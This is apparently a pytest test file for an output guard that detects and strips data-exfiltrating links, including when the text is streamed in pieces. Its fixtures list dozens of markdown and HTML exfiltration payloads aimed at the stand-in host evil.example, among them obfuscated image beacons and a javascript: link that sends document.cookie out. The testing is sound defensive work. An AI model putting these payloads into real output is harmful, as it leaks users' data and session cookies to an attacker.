"""Links that carry something out, in every form that renders as one: told in whole texts, and never let through a stream in pieces."""

import re

import pytest

from maru.guard.check import Subject
from maru.guard.engine import Guard
from maru.guard.links import CHECK, hosts_of
from maru.guard.masking import Vault
from maru.guard.policy import Policy, parsed
from maru.guard.stream import GuardedStream
from tests.unit.guard.test_stream import splits

#: What loads by itself.
LOADING = {
    "image": "see ![x](https://evil.example/a?q=1) here",
    "no scheme": "see ![x](//evil.example/a?q=1) here",
    "capitals": "see ![x](HTTPS://EVIL.example/a?q=1) here",
    "backslashes": r"see ![x](https:\\evil.example\a?q=1) here",
    "slash and backslash": r"see ![x](/\evil.example/a) here",
    "one slash": "see ![x](https:/evil.example/a) here",
    "no slash": "see ![x](https:evil.example/a) here",
    "user of a host": "see ![x](https://good.example@evil.example/a) here",
    "port": "see ![x](https://evil.example:8443/a) here",
    "brackets": "see ![x](< //evil.example/a b >) here",
    "title": 'see ![x](//evil.example/a "a title") here',
    "label with brackets": "see ![a [b] c](//evil.example/a) here",
    "label over lines": "see ![a\nb](//evil.example/a) here",
    "within a link": "see [![x](//evil.example/a)](https://good.example/b) here",
    "percent signs": "see ![x](https://%65vil.example/a) here",
    "entities": "see ![x](https&#58;//evil.example/a) here",
    "a full stop of Chinese": "see ![x](https://evil。example/a) here",
    "reference": "see ![x][1] here\n\n[1]: //evil.example/a\n",
    "reference over lines": "see ![x][1] here\n\n[1]:\n  <//evil.example/a>\n",
    "reference in a list": "see ![x][1] here\n> - [1]: https://evil.example/a\n",
    "img": 'see <img src="//evil.example/a"> here',
    "img without quotes": "see <IMG alt=x SRC = https://evil.example/a> here",
    "img over lines": "see <img\nalt='>'\nsrc='//evil.example/a'> here",
    "img that never ends": "see <img src='//evil.example/a here",
    "srcset": 'see <img srcset="/a 1x, //evil.example/a 2x"> here',
    "poster": 'see <video poster="https://evil.example/a"></video> here',
    "svg": '<svg><image xlink:href="//evil.example/a"/></svg>',
    "meta": '<meta http-equiv="refresh" content="0; url=https://evil.example/a">',
    "form": '<form action="https://evil.example/a"> here',
    "ping": '<a href="/b" ping="https://evil.example/a">b</a>',
    "frame": "<iframe srcdoc=\"<img src='//evil.example/a'>\"></iframe>",
    "style": "<p style=\"background: url('//evil.example/a')\">b</p>",
    "css without quotes": "p { background: URL( https://evil.example/a ) }",
    "import": '<style>@import "//evil.example/a";</style>',
    "base": '<base href="//evil.example/">',
}  # fmt: skip
RUNNING = {
    "script": "see [x](javascript:fetch('//evil.example/'+btoa(document.cookie))) here",
    "entities in a script": "see [x](&#106;avascript:evil.example) here",
    "script in an element": '<a href="java\nscript:evil.example">x</a>',
    "page as data": "see [x](data:text/html;base64,evil.example) here",
}
CLICKED = {
    "link": "see [x](https://evil.example/a) here",
    "link without a scheme": "see [x](//evil.example/a) here",
    "bare": "see https://evil.example/a, here",
    "in angles": "see <https://evil.example/a> here",
    "www": "see www.evil.example/a here",
    "anchor": 'see <a class="b" href="//evil.example/a">x</a> here',
    "with a comma": "see https://evil.example/a?b=1,2,3 here",
    "Korean": "https://evil.example에서 보세요",
}
WELCOME = {
    "relative": "![x](/a.png) [y](#b) <img src='a.png'> <a href='../b'>c</a>",
    "named": "![x](https://good.example/a.png) and https://docs.good.example/b, or https://good.example에서.",
    "data": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "prose": "a < b, x[1]: 5 and y[2] (see url (below)) for i<n; url('a.png') at 10:30 //comment tel:123",
    "mail": "[write](mailto:minji@corp.example?subject=hi) or <mailto:lee@corp.example>",
}
FACTS: dict[str, object] = {"hosts": frozenset({"good.example"})}


def rules(action: str = "strip") -> Policy:
    return parsed({"name": "links", "checks": {"links": {"output": action}}})


def labels(text: str, facts: dict[str, object]) -> list[str]:
    return [one.label for one in CHECK.find(Subject(text, "output", facts=facts))]


@pytest.mark.parametrize(("forms", "label"), [(LOADING, "image"), (RUNNING, "script")], ids=["loading", "running"])
def test_what_acts_by_itself_is_told_whoever_named_hosts(forms: dict[str, str], label: str) -> None:
    for facts in (FACTS, {}):
        assert {name for name, text in forms.items() if label not in labels(text, facts)} == set()


def test_what_is_clicked_is_told_where_hosts_are_named() -> None:
    assert {name: labels(text, FACTS) for name, text in CLICKED.items()} == {name: ["unknown_host"] for name in CLICKED}
    assert {name: labels(text, {}) for name, text in CLICKED.items()} == {name: [] for name in CLICKED}


def test_what_leads_nowhere_else_is_left() -> None:
    for facts in (FACTS, {}):
        told = {name: labels(text, facts) for name, text in WELCOME.items() if facts or name != "named"}
        assert {name for name, found in told.items() if found} == set()


@pytest.mark.parametrize(
    "url",
    [
        f"https://evil.example/?q={'a' * 64}",
        f"https://evil.example/{'QmFzZTY0' * 9}",
        f"https://{'a' * 45}.evil.example/",
        f"mailto:x@evil.example?body={'a' * 64}",
        f"[x](//evil.example/#{'a' * 64})",
    ],
)
def test_links_that_carry_much_are_told_without_names(url: str) -> None:
    assert labels(f"see {url} here", {}) == ["data"]


def test_hosts_are_those_that_a_text_names() -> None:
    text = "https://a.example/x, //b.example/y, www.c.example. HTTP://u:p@D.example:80! mailto:x@e.example // no host"
    assert hosts_of(text) == {"a.example", "b.example", "www.c.example", "d.example"}


EVERY = {**LOADING, **RUNNING, **CLICKED}


async def let(pieces: list[str], action: str = "strip") -> str:
    stream = GuardedStream(Guard(), rules(action), "output", vault=Vault(), facts=FACTS)
    return "".join([await stream.feed(one) for one in pieces]) + await stream.finish()


def evil(text: str) -> bool:
    """Whether a host that nobody named is left in the text, however much of it."""
    return bool(re.search(r"(?i)[e%]\w*vil|example/a", text))


@pytest.mark.parametrize("name", EVERY)
async def test_no_piece_of_a_link_leaves(name: str) -> None:
    text = EVERY[name]
    whole = (await Guard().check(text, "output", rules(), facts=FACTS)).output
    assert not evil(whole)
    for pieces in (list(text), *splits(text, 2, every=2), *splits(text, 3, every=97)):
        assert await let(pieces) == whole, pieces
        assert not evil(await let(pieces, "block")), pieces


@pytest.mark.slow
@pytest.mark.parametrize("name", EVERY)
async def test_no_piece_of_a_link_leaves_wherever_it_is_cut(name: str) -> None:
    text = EVERY[name]
    whole = await let([text])
    for pieces in splits(text, 3):
        assert await let(pieces) == whole, pieces


async def test_prose_is_not_held_for_links() -> None:
    text = "a < b means more than c; for i<n we sum (x) and y[2] here. It's fine! 값이 3 < 5 입니다."
    stream = GuardedStream(Guard(), rules(), "output", vault=Vault(), facts=FACTS)
    said, longest = "", 0
    for at, one in enumerate(text, 1):
        said += await stream.feed(one)
        longest = max(longest, at - len(said))
    assert said + await stream.finish() == text
    assert longest <= 8
